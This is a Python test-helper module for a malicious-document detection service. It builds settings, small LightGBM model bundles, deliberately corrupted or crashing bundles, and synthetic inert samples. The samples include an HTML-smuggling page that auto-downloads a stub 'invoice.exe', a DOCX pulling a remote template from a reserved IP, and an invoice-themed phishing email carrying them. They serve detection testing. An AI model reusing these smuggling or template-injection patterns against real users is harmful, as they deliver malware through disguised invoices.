"""Helpers for the service tests: settings, synthetic inert files, tiny model bundles."""

from __future__ import annotations

import email.message
import io
import json
import warnings
import zipfile
from pathlib import Path

from maldoc.serving.settings import Settings

with warnings.catch_warnings():
    # starlette asks for httpx2 over httpx; the [dev] extra installs httpx, which still works.
    from starlette.exceptions import StarletteDeprecationWarning

    warnings.simplefilter("ignore", StarletteDeprecationWarning)
    from fastapi.testclient import TestClient  # noqa: F401 - re-exported for the tests


def settings(**overrides) -> Settings:
    """Small, isolated settings: one worker, nothing from the environment that matters."""
    base = dict(workers=1, model="rules", api_keys=[], admin_keys=[], redis_url=None, timeout_s=20.0)
    base.update(overrides)
    return Settings(**base)


def html_smuggling() -> bytes:
    return (b"<html><body><script>var b = atob('TVqQAAMAAAAEAAAA');"
            b"var blob = new Blob([b], {type: 'application/octet-stream'});"
            b"var a = document.createElement('a'); a.href = URL.createObjectURL(blob);"
            b"a.download = 'invoice.exe'; a.click();</script></body></html>")


def docx_with_remote_template() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
        zf.writestr("word/document.xml", "<w:document><w:body><w:p>Invoice</w:p></w:body></w:document>")
        zf.writestr("word/_rels/settings.xml.rels",
                    '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                    'officeDocument/2006/relationships/attachedTemplate" '
                    'Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>')
    return buf.getvalue()


def message_with_attachments() -> bytes:
    msg = email.message.EmailMessage()
    msg["From"] = "billing@example.org"
    msg["To"] = "alice@example.com"
    msg["Subject"] = "Invoice 4471"
    msg["Message-ID"] = "<4471@example.org>"
    msg.set_content("Hello,\nplease find the invoice attached.\n")
    msg.add_alternative("<html><body><p>Hello, please find the invoice attached.</p></body></html>", subtype="html")
    msg.add_attachment(html_smuggling(), maintype="text", subtype="html", filename="invoice.html")
    msg.add_attachment(b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", maintype="application",
                       subtype="pdf", filename="terms.pdf")
    return msg.as_bytes()


def make_bundle(folder: Path, version: str, *, malicious: float = 0.7, suspicious: float = 0.4,
                seed: int = 7) -> Path:
    """A tiny real LightGBM bundle for the current feature schema (random data: only its plumbing matters)."""
    import lightgbm
    import numpy as np

    from maldoc.model import ModelBundle
    from maldoc.schema import SCHEMA

    rng = np.random.default_rng(seed)
    x = rng.random((120, len(SCHEMA)))
    y = (x[:, 0] > 0.5).astype(int)
    booster = lightgbm.train({"objective": "binary", "num_leaves": 4, "min_data_in_leaf": 5, "verbose": -1,
                              "num_threads": 1}, lightgbm.Dataset(x, y), num_boost_round=3)
    meta = {"version": version, "thresholds": {"malicious": malicious, "suspicious": suspicious},
            "metrics": {"roc_auc": 0.5}}
    ModelBundle(booster=booster, meta=meta).save(folder, card=f"# test bundle {version}\n")
    return folder


def corrupt(folder: Path) -> Path:
    meta = json.loads((folder / "bundle.json").read_text())
    meta["model_sha256"] = "0" * 64
    (folder / "bundle.json").write_text(json.dumps(meta))
    return folder


def create_app_unstarted(**overrides):
    from maldoc.serving.app import create_app

    return create_app(settings(**overrides))


def crashing_bundle(folder: Path, version: str = "crash") -> Path:
    """A bundle whose model text is malformed but whose recorded hash matches it: LightGBM's parser
    aborts the whole process on it (`terminate called without an active exception`)."""
    import hashlib

    make_bundle(folder, version)
    lines = (folder / "model.txt").read_text().split("\n")
    # the first tree with more than one split: a one-split tree's line is already one entry long
    # (which tree that is depends on the schema's width, which the random training data follows)
    i = next(k for k, ln in enumerate(lines) if ln.startswith("split_feature=") and " " in ln)
    lines[i] = lines[i].split()[0]
    (folder / "model.txt").write_text("\n".join(lines))
    meta = json.loads((folder / "bundle.json").read_text())
    meta["model_sha256"] = hashlib.sha256((folder / "model.txt").read_bytes()).hexdigest()
    (folder / "bundle.json").write_text(json.dumps(meta))
    return folder
